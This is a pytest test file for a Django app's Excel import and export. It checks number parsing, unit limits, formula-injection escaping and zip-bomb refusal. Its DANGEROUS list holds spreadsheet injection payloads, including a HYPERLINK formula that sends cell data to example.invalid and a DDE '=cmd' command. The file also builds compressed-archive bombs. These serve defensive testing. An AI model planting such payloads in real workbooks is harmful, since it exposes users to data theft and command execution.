"""The data-room workbook read and written safely: one way to read numbers, units with
their bounds, texts that never become formulas, bombs refused, messages said once."""

import io
import zipfile
from decimal import Context, Decimal

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from opd import excel
from opd.excel import (
    COL_BASELINE_VALUE,
    COL_COMPARATOR_KIND,
    COL_DEFINITION,
    COL_INDICATOR,
    COL_LABEL,
    COL_PROGRAM,
    COL_ROW_LABEL,
    COL_SOURCE,
    COL_TABLE,
    COL_TARGET_VALUE,
    COL_UNIT,
    COL_VALUE,
    COL_VALUE_LABEL,
    COL_YEAR,
    build_workbook,
)
from opd.models import (
    Comparator,
    Indicator,
    Program,
    StrategicObjective,
    SupportingRow,
    SupportingTable,
    Theme,
)
from tests.opd.test_excel import imports, indicator_row, make_upload, where

pytestmark = pytest.mark.django_db


def comparator_row(**overrides):
    return {
        COL_PROGRAM: "Program Gizi Masyarakat",
        COL_INDICATOR: "Prevalensi stunting",
        COL_LABEL: "Nasional",
        COL_COMPARATOR_KIND: "nasional",
        COL_VALUE: 30,
        COL_YEAR: 2017,
        COL_SOURCE: "Riskesdas",
        **overrides,
    }


def supporting_row(**overrides):
    return {
        COL_PROGRAM: "Program Gizi Masyarakat",
        COL_INDICATOR: "Prevalensi stunting",
        COL_TABLE: "Per kecamatan",
        COL_ROW_LABEL: "Klojen",
        COL_VALUE: 12,
        **overrides,
    }


# --- Numbers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "hint"),
    [
        ("0.125", "0,125"),  # never read as 125
        ("12.5", "12,5"),
        ("1_000", "_"),
        ("1e3", "1.000"),
        ("١٢", "0–9"),
        ("１２", "0–9"),
    ],
)
def test_a_text_number_that_could_be_misread_is_refused_with_its_row(
    dinkes_room, dinkes_staff, typed, hint
):
    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_BASELINE_VALUE: typed})])

    with translation.override("en"):
        result = imports(dinkes_room, content, dinkes_staff)

    assert where(result) == [("Indikator", 2, COL_BASELINE_VALUE)]
    assert hint in result.errors[0].message
    assert COL_BASELINE_VALUE in result.errors[0].message
    assert not Program.objects.exists()


def test_workbook_text_is_read_the_indonesian_way_whatever_the_screen_language(
    dinkes_room, dinkes_staff
):
    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_BASELINE_VALUE: "1.234,5"})])

    with translation.override("en"):
        assert imports(dinkes_room, content, dinkes_staff).ok

    assert Indicator.objects.get().baseline_value == Decimal("1234.5")


def test_an_excel_number_cell_is_taken_as_the_number_it_is(dinkes_room, dinkes_staff):
    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_BASELINE_VALUE: 0.125})])

    assert imports(dinkes_room, content, dinkes_staff).ok

    assert Indicator.objects.get().baseline_value == Decimal("0.125")


@pytest.mark.parametrize(
    "value",
    [1e30, -1e30, 12345678901234567, "1.000.000.000.000.000.000.000.000.000"],
)
def test_a_huge_number_gives_a_row_message_not_an_error_page(dinkes_room, dinkes_staff, value):
    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_TARGET_VALUE: value})])

    with translation.override("en"):
        result = imports(dinkes_room, content, dinkes_staff)

    assert where(result) == [("Indikator", 2, COL_TARGET_VALUE)]
    assert "too large" in result.errors[0].message
    assert "16" in result.errors[0].message  # how many digits are allowed


def test_a_huge_number_in_an_upload_is_a_message_on_the_page(
    client, dinkes_room, dinkes_staff, dinkes
):
    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_TARGET_VALUE: 1e30})])
    client.force_login(dinkes_staff)

    response = client.post(
        reverse("opd:excel_import", args=[dinkes.code]),
        {"workbook": io.BytesIO(content)},
    )

    assert response.status_code == 200
    assert "Target usulan" in response.content.decode()


def test_the_row_is_named_once_in_each_message_on_the_page(
    client, dinkes_room, dinkes_staff, dinkes
):
    content = make_upload([{}, {}, indicator_row(**{COL_UNIT: None})])  # row 4
    client.force_login(dinkes_staff)

    body = client.post(
        reverse("opd:excel_import", args=[dinkes.code]), {"workbook": io.BytesIO(content)}
    ).content.decode()

    assert "Indikator, baris 4: " in body
    assert "Baris 4" not in body and "Row 4" not in body
    assert body.count("4:") == 1


def test_a_figure_longer_than_excel_keeps_is_exported_as_text_and_comes_back_exactly(
    dinkes_room, dinkes_staff
):
    # PostgreSQL keeps 20 digits; a number cell would keep 15 (SQLite itself keeps 15).
    figure = Decimal("-1234567890123456.1234")
    cell = excel._cell_number(figure)
    assert cell == "-1.234.567.890.123.456,1234"
    assert excel._cell_number(Decimal("53.6000")) == 53.6

    content = make_upload([indicator_row(**{COL_UNIT: "indeks", COL_BASELINE_VALUE: cell})])
    with translation.override("en"):
        assert imports(dinkes_room, content, dinkes_staff).ok

    stored = Indicator.objects.get().baseline_value
    if connection.vendor == "sqlite":  # the database's own limit, not the workbook's
        figure = Context(prec=15).create_decimal(figure)
    assert stored == figure


# --- Units -----------------------------------------------------------------------------


def test_a_count_with_decimals_is_refused_in_every_sheet(dinkes_room, dinkes_staff):
    content = make_upload(
        [indicator_row(**{COL_UNIT: "kelurahan", COL_BASELINE_VALUE: "8,67"})],
        [comparator_row(**{COL_VALUE: 6.5})],
        [supporting_row(**{COL_VALUE: "2,5"})],  # "Jumlah" of a count is a count
    )

    with translation.override("en"):
        result = imports(dinkes_room, content, dinkes_staff)

    assert where(result) == [
        ("Indikator", 2, COL_BASELINE_VALUE),
        ("Pembanding", 2, COL_VALUE),
        ("Data pendukung", 2, COL_VALUE),
    ]
    assert "8.67" in result.errors[0].message  # shown in the screen's language
    assert "kelurahan" in result.errors[0].message and "whole" in result.errors[0].message


def test_a_whole_count_is_accepted(dinkes_room, dinkes_staff):
    content = make_upload(
        [indicator_row(**{COL_UNIT: "Kelurahan", COL_BASELINE_VALUE: "9", COL_TARGET_VALUE: 4})],
        [comparator_row(**{COL_VALUE: 6})],
        [supporting_row(**{COL_VALUE: "1.020"})],
    )

    assert imports(dinkes_room, content, dinkes_staff).ok


def test_a_supporting_table_follows_the_unit_its_value_column_names(dinkes_room, dinkes_staff):
    content = make_upload(
        [indicator_row()],  # a "%" indicator
        [],
        [
            supporting_row(**{COL_ROW_LABEL: "Klojen", COL_VALUE: 2140}),  # the counts behind it
            supporting_row(**{COL_TABLE: "Orang", COL_VALUE_LABEL: "orang", COL_VALUE: "3,5"}),
            supporting_row(**{COL_TABLE: "Persen", COL_VALUE_LABEL: "%", COL_VALUE: 130}),
        ],
    )

    result = imports(dinkes_room, content, dinkes_staff)

    assert where(result) == [("Data pendukung", 3, COL_VALUE), ("Data pendukung", 4, COL_VALUE)]


@pytest.mark.parametrize(
    ("unit", "baseline", "target"),
    [("% rasio", "105,5", "110"), ("% pertumbuhan", "-3,5", "6"), ("% KH", 130, 140)],
)
def test_a_percentage_that_is_not_a_share_may_pass_100_or_go_below_0(
    dinkes_room, dinkes_staff, unit, baseline, target
):
    content = make_upload(
        [indicator_row(**{COL_UNIT: unit, COL_BASELINE_VALUE: baseline, COL_TARGET_VALUE: target})]
    )

    assert imports(dinkes_room, content, dinkes_staff).ok


def test_invisible_characters_are_dropped_from_names(dinkes_room, dinkes_staff):
    content = make_upload(
        [indicator_row(**{COL_PROGRAM: "Program\u200b Gizi\u202e Masyarakat"})],
        [comparator_row(**{COL_LABEL: "Nasi\u2066onal\u2069"})],
    )

    assert imports(dinkes_room, content, dinkes_staff).ok

    assert Program.objects.get().name == "Program Gizi Masyarakat"
    assert Comparator.objects.get().label == "Nasional"


def test_a_definition_longer_than_the_form_allows_is_refused(dinkes_room, dinkes_staff):
    content = make_upload([indicator_row(**{COL_DEFINITION: "x" * 2001})])

    result = imports(dinkes_room, content, dinkes_staff)

    assert where(result) == [("Indikator", 2, COL_DEFINITION)]


def test_a_cell_far_to_the_right_is_ignored(dinkes_room, dinkes_staff):
    wb = load_workbook(io.BytesIO(make_upload([indicator_row()])))
    wb["Indikator"].cell(row=2, column=16000, value="lost")
    buffer = io.BytesIO()
    wb.save(buffer)

    assert imports(dinkes_room, buffer.getvalue(), dinkes_staff).ok


# --- Formulas --------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Klik")',
    "+62 811 0000",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def dangerous_room(dinkes_room):
    Theme.objects.create(code="aki", name=DANGEROUS[6])
    program = Program.objects.create(data_room=dinkes_room, name=DANGEROUS[0])
    objective = StrategicObjective.objects.create(data_room=dinkes_room, name="=S+1")
    indicator = Indicator.objects.create(
        program=program,
        objective=objective,
        name=DANGEROUS[1],
        definition=DANGEROUS[4],
        unit="indeks",
        data_source=DANGEROUS[5],
        baseline_value=Decimal("-5"),
        baseline_year=2017,
        baseline_source=DANGEROUS[2],
    )
    Comparator.objects.create(
        indicator=indicator, label=DANGEROUS[3], kind="region", value=1, year=2017, source="=1"
    )
    table = SupportingTable.objects.create(indicator=indicator, title="=T", source="+S")
    SupportingRow.objects.create(table=table, label="-L", value=1, note="@N")
    return dinkes_room


def test_no_text_in_the_export_becomes_a_formula(dangerous_room):
    content = build_workbook(dangerous_room)

    wb = load_workbook(io.BytesIO(content))
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(
                    ("=", "+", "-", "@", "\t", "\r")
                ):
                    texts[cell.value] = cell
    # Kept as written, the theme name too ("\r" reads back as "\n": XML line ends).
    assert set(DANGEROUS) - {"\r=1+1"} <= set(texts)
    for cell in texts.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)


def test_the_export_keeps_real_numbers_as_numbers(dangerous_room):
    ws = load_workbook(io.BytesIO(build_workbook(dangerous_room)))["Indikator"]
    cell = ws.cell(row=2, column=excel.INDICATOR_HEADERS.index(COL_BASELINE_VALUE) + 1)
    assert cell.value == -5 and cell.data_type == "n"


def test_a_protected_text_comes_back_unchanged_on_import(dangerous_room, dinkes_staff):
    assert imports(dangerous_room, build_workbook(dangerous_room), dinkes_staff).ok

    assert Program.objects.get().name == DANGEROUS[0]
    assert Indicator.objects.get().baseline_source == "-2+3"
    assert Indicator.objects.get().objective.name == "=S+1"


# --- Bombs -----------------------------------------------------------------------------


def _archive(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def no_openpyxl(monkeypatch):
    """Fail the test if openpyxl is asked to open the file."""

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl opened a file that should have been refused")

    monkeypatch.setattr(excel, "load_workbook", refuse)


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(dinkes_room, dinkes_staff, no_openpyxl):
    bomb = _archive({"xl/worksheets/sheet1.xml": b"0" * (64 * 1024 * 1024)})  # 64 MB of zeros
    assert len(bomb) < 200_000

    with translation.override("en"):
        result = imports(dinkes_room, bomb, dinkes_staff)

    assert len(result.errors) == 1 and result.errors[0].row is None
    assert "64" in result.errors[0].message and "30 MB" in result.errors[0].message


def test_a_small_but_tightly_packed_file_is_refused(dinkes_room, dinkes_staff, no_openpyxl):
    packed = _archive({"xl/worksheets/sheet1.xml": b"<row/>" * 500_000})  # 3 MB, ratio > 100

    result = imports(dinkes_room, packed, dinkes_staff)

    assert len(result.errors) == 1 and result.errors[0].row is None


def test_a_bloated_style_sheet_is_refused(dinkes_room, dinkes_staff, no_openpyxl):
    styles = "".join(f'<xf numFmtId="{n % 997}" fontId="{n % 89}"/>' for n in range(100_000))
    content = _archive({"xl/styles.xml": styles.encode()})  # 4 MB, loosely packed

    with translation.override("en"):
        result = imports(dinkes_room, content, dinkes_staff)

    assert "xl/styles.xml" in result.errors[0].message


def test_too_many_shared_texts_are_refused(dinkes_room, dinkes_staff, no_openpyxl, monkeypatch):
    monkeypatch.setattr(
        excel,
        "ARCHIVE_LIMITS",
        excel.ArchiveLimits(
            total_bytes=excel.ARCHIVE_LIMITS.total_bytes,
            ratio=100,
            members=200,
            part_bytes=excel.ARCHIVE_LIMITS.part_bytes,
            shared_strings=1000,  # the real limit, scaled down
        ),
    )
    strings = "".join(f"<si><t>{n}</t></si>" for n in range(1001))
    content = _archive({"xl/sharedStrings.xml": f"<sst>{strings}</sst>".encode()})

    result = imports(dinkes_room, content, dinkes_staff)

    assert len(result.errors) == 1 and "1.000" in result.errors[0].message


def test_a_workbook_with_other_sheets_only_reads_the_three_it_needs(dinkes_room, dinkes_staff):
    wb = load_workbook(io.BytesIO(make_upload([indicator_row()])))
    wb.create_sheet("Catatan saya").append(["anything", "=1/0"])
    buffer = io.BytesIO()
    wb.save(buffer)

    assert imports(dinkes_room, buffer.getvalue(), dinkes_staff).ok


def test_the_benchmarks_largest_workbook_is_accepted(dinkes_room, dinkes_staff):
    from opd.management.commands.bench_excel import largest_workbook

    content = largest_workbook(rows=20, definition_length=2000)

    result = imports(dinkes_room, content, dinkes_staff)

    assert result.ok, result.errors[:3]
    assert result.counts()["indicators_created"] == 20


def test_an_empty_workbook_built_by_hand_is_not_mistaken_for_a_bomb(dinkes_room, dinkes_staff):
    buffer = io.BytesIO()
    Workbook().save(buffer)

    result = imports(dinkes_room, buffer.getvalue(), dinkes_staff)

    assert {e.sheet for e in result.errors} == {"Indikator", "Pembanding", "Data pendukung"}


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("ok", "ok"), (5, 5)],
)
def test_a_csv_cell_that_would_start_a_formula_gets_an_apostrophe(value, written):
    from lelang.spreadsheet import csv_text

    assert csv_text(value) == written
